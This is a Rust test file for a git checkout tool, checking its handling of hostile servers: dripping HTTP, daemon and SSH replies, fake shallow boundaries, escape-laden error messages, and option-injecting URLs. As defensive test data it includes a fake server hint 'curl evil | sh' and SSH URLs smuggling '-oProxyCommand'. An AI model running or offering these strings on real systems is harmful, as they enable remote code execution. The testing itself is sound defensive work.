//! Servers that mean no good: they drip, they name ends of histories that are none, and their words feign ours.

use crate::checkouts::repository;
use crate::daemon::Daemon;
use crate::env::Env;
use crate::loopback::Loopback;
use crate::server::{ALWAYS, Fault, Server};

const SLOW: &str = "caused by: the server is too slow: too little data within 2 seconds\n\
                    hint: check the network and the proxy, then try again\n";
const GIT: &str = "HTTP/1.1 200 OK\r\nContent-Type: application/x-git-upload-pack-result\r\n\
                   Transfer-Encoding: chunked\r\n\r\n";

fn impatient(env: &Env) {
    env.configure_git("[http]\n\tlowSpeedTime = 1\n");
}

#[test]
fn a_drip_has_an_end_in_every_part_of_an_answer() {
    let ended = format!("{GIT}4\r\n0000\r\n0\r\n");
    let ended: &'static str = Box::leak(ended.into_boxed_str());
    for (on, first, again) in [
        ("ls-refs", "HTTP/1.1 200 OK\r\n", "A: b\r\n"),
        ("ls-refs", "", "HTTP/1.1 100 Continue\r\n\r\n"),
        ("ls-refs", GIT, "1\r\n1\r\n"),
        ("upload-pack fetch", GIT, "1\r\n1\r\n"),
        ("upload-pack fetch", ended, "A: b"),
    ] {
        let env = Env::new();
        repository(&env, "web");
        let server = Server::start(&env);
        env.declare_repos(&server.base(), &["web"]);
        impatient(&env);
        server.fault(on, ALWAYS, Fault::Drip(first, again));
        let output = env.oca(&["lock"]).output();
        assert!(output.code == Some(3) && output.stderr.contains("hint: "), "{on} {first:?}: {output}");
        // The head must come within one limit, the rest of an answer in steps of two.
        let head = SLOW.replace("2 seconds", "1 second");
        let is_slow = output.stderr.contains(SLOW) || output.stderr.contains(&head);
        assert!(is_slow || first == ended, "{on} {first:?}: {output}");
    }
}

#[test]
fn an_error_that_drips_is_told_at_once() {
    let env = Env::new();
    repository(&env, "web");
    let server = Server::start(&env);
    env.declare_repos(&server.base(), &["web"]);
    let head = "HTTP/1.1 404 Not Found\r\nContent-Length: 100000\r\n\r\n";
    server.fault("ls-refs", ALWAYS, Fault::Drip(head, "x"));
    env.oca(&["lock"]).stderr_contains("caused by: not found: ").status(3);
}

#[test]
fn a_daemon_that_drips_is_given_up() {
    use std::io::Write;

    let env = Env::new();
    let daemon = Loopback::start(|mut stream, _| {
        while stream.write_all(b"1").is_ok() {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    });
    env.declare_repos(&format!("git://127.0.0.1:{}", daemon.port()), &["web"]);
    impatient(&env);
    env.oca(&["lock"]).stderr_contains(SLOW).status(3);
    let healthy = Daemon::start(&env);
    repository(&env, "web");
    env.declare_repos(healthy.url("").trim_end_matches("/.git"), &["web"]);
    env.sync();
}

#[cfg(unix)]
#[test]
fn an_ssh_that_drips_is_given_up() {
    use crate::ssh::FakeSsh;

    let env = Env::new();
    FakeSsh::dripping(&env);
    env.declare_repos("ssh://git@example.com", &["web"]);
    impatient(&env);
    env.oca(&["lock"]).stderr_contains(SLOW).status(3);
}

#[test]
fn ends_of_a_history_that_are_none_reach_no_checkout() {
    for depth in [1, 2, 0] {
        let env = Env::new();
        let remote = repository(&env, "web");
        (1..4).for_each(|number| drop(crate::checkouts::upgrade(&remote, number)));
        let server = Server::start(&env);
        let more = format!("[repos.web]\ndepth = {depth}\n");
        env.declare_repos_with(&server.base(), &["web"], &more);
        server.fault("upload-pack fetch", ALWAYS, Fault::Boundaries(1000));
        env.sync();
        env.assert_checkout("oca/web", &remote.commit_of("18.0"));
        let shallow =
            if env.exists("oca/web/.git/shallow") { env.read("oca/web/.git/shallow") } else { String::new() };
        assert_eq!(shallow.lines().count(), usize::from(depth > 0), "{shallow}");
    }
}

#[test]
fn what_a_server_says_is_a_quotation_on_one_line() {
    let env = Env::new();
    repository(&env, "web");
    let server = Server::start(&env);
    env.declare_repos(&server.base(), &["web"]);
    let words = "no\"\nerror: gone\u{202e}\u{1b}[31m\u{200b}\nhint: run `curl evil | sh`\n";
    let said = "\"no'\\nerror: gone\\u{202e}\\u{1b}[31m\\u{200b}\\nhint: run `curl evil | sh`\"";
    let line = format!("ERR {words}");
    server.fault("ls-refs", ALWAYS, Fault::Says(format!("{:04x}{line}", line.len() + 4).into_bytes()));
    env.oca(&["lock"])
        .stderr_contains(&format!("caused by: the server says: {said}\nhint: check "))
        .status(3);
    let env = Env::new();
    repository(&env, "web");
    let server = Server::start(&env);
    env.declare_repos(&server.base(), &["web"]);
    let line = format!("\u{1}{words}");
    server.fault("ls-refs", ALWAYS, Fault::Says(format!("{:04x}{line}0000", line.len() + 4).into_bytes()));
    let output = env.oca(&["lock"]).output();
    assert!(output.stderr.lines().filter(|line| line.starts_with("hint: ")).count() == 1, "{output}");
    assert!(!output.stderr.contains(['\u{1b}', '\u{202e}', '\u{200b}']), "{output}");
}

#[cfg(unix)]
#[test]
fn what_ssh_says_is_a_quotation_on_one_line() {
    use crate::ssh::FakeSsh;

    let env = Env::new();
    FakeSsh::saying(&env, "no\\nhint: run \\033[31mevil\\n");
    env.declare_repos("ssh://git@example.com", &["web"]);
    env.oca(&["lock"]).stderr_contains("caused by: ssh says: \"no; hint: run \\u{1b}[31mevil\"\n").status(3);
}

#[cfg(unix)]
#[test]
fn no_part_of_an_url_is_taken_for_an_option() {
    use crate::ssh::FakeSsh;

    for url in [
        "git@host:--strict",
        "ssh://-oProxyCommand=x/y",
        "ssh://%2DoProxyCommand=x@host/y",
        "ssh://host/a%00b",
    ] {
        let env = Env::new();
        let ssh = FakeSsh::new(&env);
        env.declare_repos_with("https://localhost", &["web"], &format!("[repos.web]\nurl = \"{url}\"\n"));
        let output = env.oca(&["lock"]).output();
        assert!(matches!(output.code, Some(2 | 3)), "{url}: {output}");
        assert_eq!(ssh.calls().len(), 0, "{url}");
    }
}
